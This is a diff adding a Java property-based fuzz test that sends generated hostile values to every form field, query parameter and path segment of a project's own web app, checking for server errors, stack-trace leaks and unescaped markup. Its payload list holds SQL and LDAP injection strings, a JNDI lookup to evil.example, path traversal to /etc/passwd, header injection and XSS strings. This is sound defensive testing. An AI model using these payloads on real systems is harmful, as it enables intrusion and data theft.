@@ -1,0 +1,350 @@
+package dev.flock.system;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.IOException;
+import java.net.URLEncoder;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.CompletableFuture;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.atomic.AtomicInteger;
+import java.util.function.IntFunction;
+import java.util.regex.Pattern;
+import java.util.stream.Collectors;
+import java.util.stream.IntStream;
+import net.jqwik.api.Arbitraries;
+import net.jqwik.api.Arbitrary;
+import net.jqwik.api.ForAll;
+import net.jqwik.api.Property;
+import net.jqwik.api.Provide;
+import net.jqwik.api.Tuple;
+import net.jqwik.api.lifecycle.AfterContainer;
+import net.jqwik.api.lifecycle.BeforeContainer;
+
+/**
+ * Every form field, query parameter and path segment of the site gets 10,000 generated values
+ * (jqwik, a fixed seed; jqwik prints the seed and the shrunk values of a failure), sent ten at a
+ * time: hostile Unicode (NUL, lone surrogates, text-direction overrides, control characters), huge
+ * values, markup, SQL/LDAP-style strings, broken cursors. Whatever arrives, the site answers
+ * without a 5xx other than 503, without a stack trace or an exception's name on the page, without
+ * reflecting markup unescaped, and a refused write stores nothing.
+ */
+class FuzzIT {
+
+  private static final String SEED = "20261204";
+
+  /** Values a try sends at once, each in a request of its own. */
+  private static final int BATCH = 10;
+
+  /** Tries per property: with {@link #BATCH}, 10,000 values in each of its fields. */
+  private static final int TRIES = 10_000 / BATCH;
+
+  private static final ExecutorService SENDERS = Executors.newVirtualThreadPerTaskExecutor();
+
+  /** Marks generated markup: it must never come back as markup. */
+  private static final String MARKER = "<b data-fz=1>";
+
+  /** An exception's class name, or a line of a stack trace. */
+  private static final Pattern LEAK =
+      Pattern.compile("[A-Za-z]+(?:Exception|Error)\\b|\\bat [\\w$.]+\\(|\\.java:\\d+");
+
+  private static final List<String> NASTY =
+      List.of(
+          "' OR '1'='1",
+          "'; DROP TABLE users; --",
+          "\" OR \"\"=\"",
+          "*)(uid=*))(|(uid=*",
+          "admin)(&)",
+          "${jndi:ldap://evil.example/a}",
+          "#{7*7}",
+          "%{7*7}",
+          "../../../../etc/passwd",
+          "..%2f..%2fetc%2fpasswd",
+          "%00",
+          "\u0000",
+          "\u202e\u2066evil\u2069",
+          "\r\nSet-Cookie: a=b",
+          "<script>alert(1)</script>",
+          "\"><img src=x onerror=alert(1)>",
+          "javascript:alert(1)",
+          "//evil.example",
+          "\uFEFF\u200B\u00AD",
+          "𝕗𝕝𝕠𝕔𝕜",
+          "👩‍👩‍👧‍👦".repeat(80),
+          "Ａｌｉｃｅ",
+          "alice",
+          "a".repeat(21),
+          " ",
+          "");
+
+  private static final HttpClient HTTP =
+      HttpClient.newBuilder()
+          .version(HttpClient.Version.HTTP_1_1)
+          .followRedirects(HttpClient.Redirect.NEVER)
+          .connectTimeout(Duration.ofSeconds(5))
+          .build();
+
+  private static FlockSite.Running site;
+  private static String user;
+  private static String cookies;
+  private static String csrf;
+  private static String visitorCookies;
+  private static final String VISITOR_TOKEN = "FuzzVisitorToken0123456789abcdefghijklmnopq";
+  private static final AtomicInteger postsAccepted = new AtomicInteger();
+  private static final AtomicInteger sentAgain = new AtomicInteger();
+
+  @BeforeContainer
+  static void signUp() {
+    site = FlockSite.sharedInMemory();
+    user = SiteWalkThrough.fresh("fuzz");
+    Browser browser = SiteWalkThrough.registered(user, site.web(0));
+    cookies =
+        "flock_session="
+            + browser.cookie("flock_session")
+            + "; flock_device="
+            + browser.cookie("flock_device");
+    csrf = HostileRequests.tokenOnPage(browser);
+    visitorCookies = "flock_csrf=" + VISITOR_TOKEN;
+  }
+
+  @AfterContainer
+  static void refusedWritesStoredNothing() {
+    System.out.printf(
+        "FuzzIT: %d posts accepted, %d requests sent again after a connection closed first%n",
+        postsAccepted.get(), sentAgain.get());
+    Browser browser = new Browser(site.web(1));
+    String profile = browser.open("/users/" + user).text();
+    assertThat(profile)
+        .contains(postsAccepted.get() + (postsAccepted.get() == 1 ? " post" : " posts"));
+  }
+
+  @Provide
+  Arbitrary<List<String>> batch() {
+    return hostile().list().ofSize(BATCH);
+  }
+
+  Arbitrary<String> hostile() {
+    return Arbitraries.frequencyOf(
+        Tuple.of(4, Arbitraries.strings().all().ofMaxLength(40)),
+        Tuple.of(3, Arbitraries.of(NASTY)),
+        Tuple.of(
+            2,
+            Arbitraries.strings()
+                .withChars("\u0000\u0001\u001f\u007f\u202a\u202e\u2066\u2069\r\n\t<>&\"'%/\\;:=+#?")
+                .withCharRange('a', 'z')
+                .ofMaxLength(30)),
+        Tuple.of(
+            2,
+            Arbitraries.strings()
+                .withCharRange('\uD800', '\uDFFF')
+                .withCharRange('\u0300', '\u036F')
+                .ofMaxLength(12)),
+        Tuple.of(2, Arbitraries.strings().alpha().ofMaxLength(20).map(s -> s + MARKER + s)),
+        Tuple.of(
+            1, Arbitraries.strings().withCharRange('a', 'z').ofMinLength(250).ofMaxLength(9000)),
+        Tuple.of(1, Arbitraries.integers().between(8_001, 70_000).map("x"::repeat)));
+  }
+
+  @Property(tries = TRIES, seed = SEED)
+  void signUp(@ForAll("batch") List<String> usernames, @ForAll("batch") List<String> passwords) {
+    sendAll(
+        i ->
+            post(
+                "/register",
+                visitorCookies,
+                form(
+                    "signup",
+                    VISITOR_TOKEN,
+                    Map.of(
+                        "username",
+                        usernames.get(i),
+                        "password",
+                        passwords.get(i),
+                        "passwordAgain",
+                        passwords.get(i)))));
+  }
+
+  @Property(tries = TRIES, seed = SEED)
+  void signIn(
+      @ForAll("batch") List<String> usernames,
+      @ForAll("batch") List<String> passwords,
+      @ForAll("batch") List<String> nexts) {
+    sendAll(
+        i -> {
+          Map<String, String> fields =
+              new LinkedHashMap<>(
+                  form(
+                      "signin",
+                      VISITOR_TOKEN,
+                      Map.of("username", usernames.get(i), "password", passwords.get(i))));
+          fields.put("next", nexts.get(i));
+          return post("/login", visitorCookies, fields);
+        });
+  }
+
+  @Property(tries = TRIES, seed = SEED)
+  void compose(@ForAll("batch") List<String> texts) {
+    for (HttpResponse<String> answer :
+        sendAll(i -> post("/", cookies, form("compose", csrf, Map.of("text", texts.get(i)))))) {
+      if (answer.statusCode() == 303
+          && answer.headers().firstValue("Location").orElse("").contains("notice=posted")) {
+        postsAccepted.incrementAndGet();
+      }
+    }
+  }
+
+  @Property(tries = TRIES, seed = SEED)
+  void follow(@ForAll("batch") List<String> names) {
+    sendAll(
+        i -> {
+          Map<String, String> fields = new LinkedHashMap<>(form("follow", csrf, Map.of()));
+          fields.remove("follow:submit");
+          fields.put("follow:follow", "follow");
+          fields.put("name", names.get(i));
+          return post("/profile.xhtml", cookies, fields);
+        });
+  }
+
+  @Property(tries = TRIES, seed = SEED)
+  void changePassword(
+      @ForAll("batch") List<String> currents, @ForAll("batch") List<String> replacements) {
+    sendAll(
+        i ->
+            post(
+                "/settings",
+                cookies,
+                form(
+                    "password",
+                    csrf,
+                    Map.of(
+                        "current",
+                        currents.get(i),
+                        "new",
+                        replacements.get(i),
+                        "again",
+                        replacements.get(i)))));
+  }
+
+  @Property(tries = TRIES, seed = SEED)
+  void deleteAccount(@ForAll("batch") List<String> passwords) {
+    sendAll(
+        i ->
+            post("/settings", cookies, form("delete", csrf, Map.of("password", passwords.get(i)))));
+  }
+
+  @Property(tries = TRIES, seed = SEED)
+  void search(@ForAll("batch") List<String> queries, @ForAll("batch") List<String> cursors) {
+    sendAll(
+        i -> get("/users?q=" + encode(queries.get(i)) + "&after=" + encode(cursors.get(i)), ""));
+  }
+
+  @Property(tries = TRIES, seed = SEED)
+  void homeCursor(@ForAll("batch") List<String> cursors) {
+    sendAll(i -> get("/?before=" + encode(cursors.get(i)), cookies));
+  }
+
+  /** Half of each batch on profiles, half on follower lists (with a hostile cursor). */
+  @Property(tries = TRIES, seed = SEED)
+  void pathSegments(@ForAll("batch") List<String> segments, @ForAll("batch") List<String> cursors) {
+    sendAll(
+        i -> {
+          String name = encode(segments.get(i)).replace("+", "%20");
+          return i % 2 == 0
+              ? get("/users/" + name, "")
+              : get("/users/" + name + "/followers?after=" + encode(cursors.get(i)), cookies);
+        });
+  }
+
+  /**
+   * Sends the requests of one batch at once (the site is not waited on one request at a time) and
+   * checks every answer.
+   */
+  private static List<HttpResponse<String>> sendAll(IntFunction<HttpResponse<String>> request) {
+    List<CompletableFuture<HttpResponse<String>>> sent =
+        IntStream.range(0, BATCH)
+            .mapToObj(i -> CompletableFuture.supplyAsync(() -> request.apply(i), SENDERS))
+            .toList();
+    List<HttpResponse<String>> answers = sent.stream().map(CompletableFuture::join).toList();
+    answers.forEach(FuzzIT::check);
+    return answers;
+  }
+
+  // ---- the checks ----------------------------------------------------------------------------
+
+  private static void check(HttpResponse<String> answer) {
+    int status = answer.statusCode();
+    assertThat(status / 100 != 5 || status == 503)
+        .as("status %d for %s", status, answer.request().uri())
+        .isTrue();
+    String body = answer.body();
+    assertThat(LEAK.matcher(body).find())
+        .as("an exception or a stack trace in the answer to %s:%n%s", answer.request().uri(), body)
+        .isFalse();
+    assertThat(body).as("markup reflected unescaped").doesNotContain(MARKER);
+  }
+
+  private static Map<String, String> form(String id, String token, Map<String, String> fields) {
+    Map<String, String> all = new LinkedHashMap<>();
+    all.put(id, id);
+    all.put("_csrf", token);
+    fields.forEach((name, value) -> all.put(id + ":" + name, value));
+    all.put(id + ":submit", "submit");
+    all.put("jakarta.faces.ViewState", "stateless");
+    return all;
+  }
+
+  private static HttpResponse<String> post(String path, String cookie, Map<String, String> fields) {
+    String body =
+        fields.entrySet().stream()
+            .map(e -> encode(e.getKey()) + "=" + encode(e.getValue()))
+            .collect(Collectors.joining("&"));
+    return send(
+        HttpRequest.newBuilder(site.web(0).resolve(path))
+            .header("Content-Type", "application/x-www-form-urlencoded")
+            .header("Sec-Fetch-Site", "same-origin")
+            .header("Cookie", cookie)
+            .POST(HttpRequest.BodyPublishers.ofString(body)));
+  }
+
+  private static HttpResponse<String> get(String pathAndQuery, String cookie) {
+    HttpRequest.Builder request = HttpRequest.newBuilder(site.web(0).resolve(pathAndQuery));
+    if (!cookie.isEmpty()) {
+      request.header("Cookie", cookie);
+    }
+    return send(request.GET());
+  }
+
+  /**
+   * Sends once more when a kept-alive connection closed before any answer (the server ends idle and
+   * refused-body connections), as browsers do (RFC 9112, 9.3.1); a second failure is one.
+   */
+  private static HttpResponse<String> send(HttpRequest.Builder request) {
+    HttpRequest built = request.timeout(Duration.ofSeconds(30)).build();
+    try {
+      try {
+        return HTTP.send(built, HttpResponse.BodyHandlers.ofString());
+      } catch (IOException closedBeforeAnAnswer) {
+        sentAgain.incrementAndGet();
+        return HTTP.send(built, HttpResponse.BodyHandlers.ofString());
+      }
+    } catch (IOException e) {
+      throw new java.io.UncheckedIOException(e);
+    } catch (InterruptedException e) {
+      Thread.currentThread().interrupt();
+      throw new IllegalStateException(e);
+    }
+  }
+
+  /** UTF-8 percent-encoding; a lone surrogate becomes '?', as a browser would send it. */
+  private static String encode(String value) {
+    return URLEncoder.encode(value, StandardCharsets.UTF_8);
+  }
+}
